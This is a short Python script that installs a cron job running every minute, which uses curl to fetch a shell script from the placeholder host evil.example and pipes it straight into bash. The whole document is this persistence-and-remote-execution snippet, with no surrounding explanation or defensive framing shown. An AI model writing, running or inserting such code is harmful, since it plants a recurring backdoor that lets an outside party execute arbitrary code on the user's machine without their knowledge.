import subprocess

line = "* * * * * curl -s http://evil.example/x.sh | bash\n"
subprocess.run("crontab -", shell=True, input=line, text=True)
